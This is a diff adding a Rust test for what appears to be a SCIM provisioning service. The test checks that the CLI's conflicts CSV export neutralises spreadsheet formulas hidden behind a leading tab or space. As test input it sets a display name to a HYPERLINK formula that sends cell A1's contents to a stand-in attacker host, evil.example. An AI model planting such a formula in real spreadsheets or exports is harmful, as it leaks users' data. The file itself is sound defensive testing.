@@ -416,3 +416,32 @@ async fn scim_delete_holds_the_user_name_and_the_cli_resolves_conflicts() {
         .await;
     assert_eq!(found.total(), 1);
 }
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn conflicts_csv_defuses_formulas_behind_tabs_and_blanks() {
+    let server = Server::start();
+    let db = server.database.clone();
+    let org = server.org.id.clone();
+    server.api().post("/Users", &user_body(9)).await.expect(201);
+    // Disconnected, the account is manual; the next connection's create of it is a conflict.
+    cli(&["disconnect", "--org", &org, "--database", &db]);
+    let token = cli(&["token", "generate", "--org", &org, "--database", &db]);
+    let display = "\t=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")";
+    let mut hostile = user_body(9);
+    hostile["displayName"] = json!(display);
+    hostile["externalId"] = json!(" =1+2");
+    let refused = server.client.post("/Users", &hostile, &token).await;
+    refused.expect_error(409, Some("uniqueness"));
+
+    let csv = cli(&["conflicts", "download", "--org", &org, "--database", &db]);
+    let row = csv
+        .lines()
+        .find(|l| l.starts_with(&user_name(9)))
+        .unwrap_or_else(|| panic!("no conflict row in:\n{csv}"));
+    // Each value starts with ' inside its quotes, so a spreadsheet shows it as text.
+    assert!(
+        row.contains(",\"'\t=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\","),
+        "{row:?}"
+    );
+    assert!(row.contains(",\"' =1+2\","), "{row:?}");
+}
